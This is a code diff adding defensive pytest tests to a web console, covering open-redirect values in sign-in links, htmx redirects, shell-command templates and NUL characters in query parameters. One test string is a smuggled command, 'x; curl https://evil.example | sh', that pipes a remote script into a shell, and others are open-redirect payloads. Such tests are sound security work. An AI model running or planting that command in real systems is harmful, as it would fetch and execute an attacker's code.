@@ -133,6 +133,8 @@ def test_signing_in_leads_back(path: str) -> None:
         "",
         "databases",
         "//evil.example",
+        "//[",
+        "http://[",
         "/\\evil.example",
         "\\\\evil.example",
         "https://evil.example/",
@@ -149,6 +151,19 @@ def test_signing_in_leads_to_no_other_site(text: str) -> None:
 def request(**headers: str) -> Request:
     raw = [(name.replace("_", "-").encode(), value.encode()) for name, value in headers.items()]
     return Request({"type": "http", "method": "POST", "path": "/", "headers": raw})
+
+
+@pytest.mark.parametrize(
+    ("here", "way_in"),
+    [
+        ("https://a.example/databases?limit=9", "/sign-in?next=%2Fdatabases%3Flimit%3D9"),
+        ("https://[", "/sign-in"),
+        ("", "/sign-in"),
+    ],
+)
+def test_a_script_is_led_to_sign_in_wherever_it_says_it_is(here: str, way_in: str) -> None:
+    answer = pages.to_sign_in(request(hx_request="true", hx_current_url=here))
+    assert answer.headers["hx-redirect"] == way_in
 
 
 @pytest.mark.parametrize(
@@ -438,3 +453,48 @@ def test_an_asset_is_named_by_its_content() -> None:
 
 def test_a_first_visit_is_small() -> None:
     assert sum(len(asset.compressed) for asset in assets._files().values()) < 40_000
+
+
+EVIL = "x; curl https://evil.example | sh"
+
+
+@pytest.mark.parametrize("template", ["delete.html", "rotate.html"])
+def test_commands_hold_nothing_that_a_customer_wrote(template: str) -> None:
+    """An administrator may paste them into a shell."""
+    row = database_row(name=None, friendly_name=EVIL)
+    text = pages._templates.get_template(template).render(
+        row=row, path=f"/databases/{row.id}", fragment=True
+    )
+    assert EVIL in text
+    commands = re.findall(r"<(pre|code)>(.*?)</\1>", text, re.DOTALL)
+    assert any(row.database_name in each for _, each in commands)
+    assert not any(EVIL in each for _, each in commands)
+
+
+@pytest.mark.parametrize("path", sorted(TEMPLATES.glob("*.html")), ids=lambda path: path.name)
+def test_no_command_names_a_database_by_its_title(path: Path) -> None:
+    for line in path.read_text().splitlines():
+        if "commands(" in line or "tenantry db" in line:
+            said = line.partition("commands(")[2] or line.partition("tenantry db")[2]
+            assert "title_of" not in said.partition("</code>")[0]
+
+
+def queried(needed: Dependant) -> Iterator[Any]:
+    """The parameters that a route takes of a query string."""
+    yield from needed.query_params
+    for each in needed.dependencies:
+        yield from queried(each)
+
+
+def test_no_search_is_taken_that_postgresql_cannot_hold() -> None:
+    """A NUL character: the driver's error would be a crash of ours, each time."""
+    read_elsewhere = {"after", "cursor", "database_id"}  # as no text
+    taken = [
+        f"{route.path} {param.name}"
+        for module in (*console._PAGES, *api_app._RESOURCES)
+        for route in module.router.routes
+        if isinstance(route, APIRoute)
+        for param in queried(route.dependant)
+        if param.name not in read_elsewhere and not param.validate("a\0b", loc=("query",))[1]
+    ]
+    assert taken == []
